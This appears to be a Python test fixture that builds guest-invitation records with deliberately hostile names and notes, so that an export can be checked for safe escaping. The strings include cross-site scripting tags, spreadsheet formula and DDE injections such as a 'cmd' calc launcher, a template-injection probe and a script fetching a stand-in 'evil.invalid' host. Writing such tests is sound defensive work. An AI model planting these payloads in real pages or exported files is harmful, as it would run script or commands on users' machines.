"""An export whose names and notes are meant to break out of wherever they are put."""

from __future__ import annotations

from tests.exports import Invited, people

NAMES = (
    "<script>alert(1)</script> Quibble",
    '"><img src=x onerror=alert(1)> Quobble',
    "=HYPERLINK(1) Quabble",
    "@SUM(1+1) Quebble",
    "</script><svg onload=alert(1)> Quubble",
    "Zoë Ñandú-Wojciechowska",
    "Mark Page",
    "May June",
    "陽子 例村",
    "Kind Answer",
)
NOTES = (
    "<b>Hello</b> {{constructor}} we both shouted at the xylophone regatta, 7*7=49",
    "=cmd|' /C calc'!A0 we met at the Quixotic fair of many windmills",
    "</script><script>fetch('https://evil.invalid/')</script> may I ask for advice?",
)


def invitations() -> list[Invited]:
    """Enough of them that an answer can be given."""
    named = [
        Invited(name, 50 + at, NOTES[at % len(NOTES)], slug=f"quibble-{at}-xyzzy")
        for at, name in enumerate(NAMES)
    ]
    written = [
        one._replace(accepted_after=2 if at % 2 else None)
        for at, one in enumerate(people(60, stem="Friend", note=NOTES[0]))
    ]
    blank = [
        one._replace(accepted_after=1 if at % 3 else None)
        for at, one in enumerate(people(90))
    ]
    return [*named, *written, *blank]
